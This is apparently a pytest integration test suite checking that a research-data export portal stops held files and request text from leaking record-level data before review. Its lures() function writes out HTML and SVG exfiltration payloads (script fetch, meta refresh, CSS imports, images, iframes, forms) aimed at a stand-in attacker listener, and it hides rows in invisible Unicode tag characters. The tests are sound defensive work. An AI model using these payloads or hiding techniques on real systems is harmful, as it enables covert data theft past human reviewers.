"""Attacks on the export path from outside the kernel, through the real platform and a real browser.

Workspace content reaches people through the portal in two ways before any decision: the held
file, which a reviewing officer opens in the portal, and the text of the request written through
the workspace API. The first must not act in the officer's browser (no script, no request to
anywhere: a request carries the held bytes to whoever listens); the second must not be a way to
carry record-level data to the requester without a reviewer.
"""

from __future__ import annotations

import datetime as dt
import http.server
import threading
import time
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page
from running_platform import RunningHub

pytestmark = pytest.mark.integration


class Listener:
    """A loopback HTTP server standing for the attacker's: every request it gets is a leak."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Listener:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


def grant(hub: RunningHub) -> str:
    today = dt.date.today()
    with hub.api("researcher") as researcher, hub.api("owner") as owner:
        created = researcher.post(
            "/api/applications",
            params={"submit": "true"},
            json={
                "kind": "person",
                "dataset_ids": ["hotline-tickets"],
                "purpose": "导出通道攻击测试",
                "level": "L2",
                "starts_on": today.isoformat(),
                "ends_on": (today + dt.timedelta(days=30)).isoformat(),
                "epsilon": "0",
                "team_members": ["operator"],
                "agreement_accepted": True,
                "commitment_accepted": True,
            },
        )
        assert created.status_code == 201, created.text
        app_id = created.json()["id"]
        assert owner.post(f"/api/applications/{app_id}/approve").status_code == 200
    return f"g{app_id:04d}"


def outbox(hub: RunningHub, grant_id: str) -> Path:
    box = hub.workspaces / grant_id / "home" / "outbox"
    for directory in (hub.workspaces, box.parent.parent, box.parent):  # as the platform makes them
        directory.mkdir(mode=0o711, parents=True, exist_ok=True)
        directory.chmod(0o711)
    box.mkdir(exist_ok=True)
    return box


def login(browser: Browser, hub: RunningHub, user: str) -> Page:
    page = browser.new_context(locale="zh-CN").new_page()
    return hub.sign_in(page, user)


def lures(evil: str, secret: str) -> dict[str, str]:
    """Held files that try every way a document without script can make a browser ask for a URL
    (carrying ``secret``), and a script that would mark the page if it ran."""
    q = f"?d={secret}"
    script = f"<script>document.title='PWNED';fetch('{evil}/script{q}')</script>"
    return {
        "lure.html": (
            "<!doctype html><html><head>"
            f'<meta http-equiv="refresh" content="0;url={evil}/refresh{q}">'
            f'<link rel="stylesheet" href="{evil}/css{q}">'
            f'<link rel="prefetch" href="{evil}/prefetch{q}">'
            f'<link rel="preload" as="image" href="{evil}/preload{q}">'
            f'<link rel="icon" href="{evil}/icon{q}">'
            f"<style>@import url({evil}/import{q}); body{{background:url({evil}/bg{q})}}</style>"
            f'<base href="{evil}/base/">'
            f"</head><body>{script}"
            f'<img src="{evil}/img{q}"><img src="rel{q}">'
            f'<img srcset="{evil}/srcset{q} 1x">'
            f'<video poster="{evil}/poster{q}" src="{evil}/video{q}" autoplay></video>'
            f'<audio src="{evil}/audio{q}" autoplay></audio>'
            f'<object data="{evil}/object{q}"></object><embed src="{evil}/embed{q}">'
            f'<iframe src="{evil}/iframe{q}"></iframe>'
            f'<form id="f" action="{evil}/form" method="get"><input name="d" value="{secret}">'
            '<input type="submit" id="go" value="go"></form>'
            f'<svg><image href="{evil}/svgimage{q}"/></svg>'
            "</body></html>"
        ),
        "lure.svg": (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
            f'<image href="{evil}/svgimage{q}" width="9" height="9"/>'
            f'<image xlink:href="{evil}/xlink{q}" width="9" height="9"/>'
            f"<style>@import url({evil}/svgimport{q});</style>"
            f'<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" '
            f'src="{evil}/foreign{q}"/></foreignObject>'
            f"<script>document.title='PWNED';fetch('{evil}/svgscript{q}')</script>"
            "</svg>"
        ),
    }


def test_held_html_and_svg_neither_run_nor_reach_anywhere_in_the_reviewers_browser(
    hub: RunningHub, browser: Browser
) -> None:
    """The officer reviews the request page (previews framed) and opens each held file whole; the
    held content gets no script run and no request out of the officer's browser, so the bytes do
    not reach a listener before the decision (and no script acts with the officer's session)."""
    grant_id = grant(hub)
    secret = f"XQZ7-lure-{grant_id}"
    with Listener() as evil:
        files = lures(evil.url, secret)
        box = outbox(hub, grant_id)
        for name, text in files.items():
            (box / name).write_text(text, encoding="utf-8")
        with hub.api("researcher") as researcher:
            created = researcher.post(
                f"/api/workspace/grants/{grant_id}/exports",
                json={"files": sorted(files), "justification": "图", "controls": "无"},
            )
            assert created.status_code == 201, created.text
            rid = created.json()["id"]
            ids = {f["name"]: f["id"] for f in created.json()["files"]}
            assert researcher.post(f"/api/exports/{rid}/submit").status_code == 200
        page = login(browser, hub, "officer")
        try:
            page.goto(f"{hub.portal}/exports/{rid}")
            frames = page.locator("iframe.preview, img.preview")
            assert frames.count() == 2  # both held files are shown to the reviewer
            time.sleep(2)
            for name in sorted(files):
                response = page.goto(f"{hub.portal}/exports/{rid}/files/{ids[name]}")
                assert response is not None and response.status == 200
                time.sleep(1.5)
                assert page.title() != "PWNED", name
                if name.endswith(".html"):
                    page.click("#go", timeout=5000)  # the officer clicks what the file shows
                    time.sleep(1.5)
            assert evil.hits == [], evil.hits
        finally:
            page.context.close()


def test_workspace_written_request_text_is_not_an_unreviewed_channel(hub: RunningHub) -> None:
    """Code in the workspace puts rows in a request's justification and controls; the member
    reads them outside the workspace (the request page, the JSON API) before any officer did,
    withdraws, and does it again: a channel out of the workspace with no reviewer."""
    grant_id = grant(hub)
    (outbox(hub, grant_id) / "t.csv").write_text("区,人数\n西湖区,95\n", encoding="utf-8")
    leaked: list[str] = []
    with hub.api("researcher") as workspace, hub.api("researcher") as outside:
        for round_ in range(3):
            rows = f"XQZ7-row-{grant_id}-{round_}," + "1" * 3900
            created = workspace.post(
                f"/api/workspace/grants/{grant_id}/exports",
                json={"files": ["t.csv"], "justification": rows, "controls": rows},
            )
            assert created.status_code == 201, created.text
            rid = created.json()["id"]
            shown = outside.get(f"/api/exports/{rid}")
            page = outside.get(f"/exports/{rid}")
            for text in (shown.text, page.text):
                if rows[:24] in text:
                    leaked.append(rows[:24])
            assert outside.post(f"/api/exports/{rid}/withdraw").status_code == 200
    assert leaked == []
    # the request's reviewers do read it: the text is held, not lost
    with hub.api("researcher") as workspace, hub.api("officer") as officer:
        created = workspace.post(
            f"/api/workspace/grants/{grant_id}/exports",
            json={"files": ["t.csv"], "justification": "XQZ7-for-officers", "controls": "c"},
        )
        rid = created.json()["id"]
        assert workspace.post(f"/api/exports/{rid}/submit").status_code == 200
        assert "XQZ7-for-officers" in officer.get(f"/api/exports/{rid}").text
        assert "XQZ7-for-officers" not in workspace.get(f"/api/exports/{rid}").text


def invisible(text: str) -> str:
    """``text`` in Unicode tag characters: a browser draws them as nothing."""
    return "".join(chr(0xE0000 + ord(c)) for c in text)


def test_what_a_reviewer_cannot_see_does_not_leave(hub: RunningHub) -> None:
    """Record-level rows hidden where the review page shows nothing: in invisible characters of
    a table's cells (CSV, Markdown, a notebook's source) and in an HTML file's comment and hidden
    element. The invisible characters are gone from what is held and released; what HTML hides
    from its rendering is on the review page as source."""
    import nbformat

    grant_id = grant(hub)
    rows = f"XQZ7-rows-{grant_id}"
    hidden = invisible(rows)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell(f"# 结果{hidden}")]
    files = {
        "t.csv": f"\ufeff区,人数\n西湖区{hidden},95\n上城区,96\n",
        "t.md": f"西湖区 95{hidden}\n",
        "n.ipynb": nbformat.writes(nb),
        "p.html": f'<p>图</p><!-- {rows} --><div style="display:none">{rows}-div</div>',
    }
    box = outbox(hub, grant_id)
    for name, text in files.items():
        (box / name).write_text(text, encoding="utf-8")
    with hub.api("researcher") as researcher, hub.api("officer") as officer:
        created = researcher.post(
            f"/api/workspace/grants/{grant_id}/exports",
            json={"files": sorted(files), "justification": "表", "controls": "已汇总"},
        )
        assert created.status_code == 201, created.text
        rid = created.json()["id"]
        assert researcher.post(f"/api/exports/{rid}/submit").status_code == 200
        page = officer.get(f"/exports/{rid}")
        assert page.status_code == 200
        assert f"&lt;!-- {rows} --&gt;" in page.text and f"{rows}-div" in page.text
        for file in created.json()["files"]:
            held = officer.get(f"/exports/{rid}/files/{file['id']}")
            assert held.status_code == 200 and hidden not in held.text, file["name"]
            assert officer.post(f"/api/exports/{rid}/files/{file['id']}/approve").status_code == 200
        assert hidden not in page.text and "西湖区" in page.text
        for action in ("complete_review", "approve", "release"):
            assert officer.post(f"/api/exports/{rid}/{action}").status_code == 200, action
        for file in created.json()["files"]:
            out = researcher.get(f"/exports/{rid}/files/{file['id']}/download")
            assert out.status_code == 200
            assert hidden not in out.content.decode("utf-8"), file["name"]
        csv = next(f for f in created.json()["files"] if f["name"] == "t.csv")
        released = researcher.get(f"/exports/{rid}/files/{csv['id']}/download").content
        assert released.startswith("\ufeff".encode())  # a spreadsheet still reads it as UTF-8
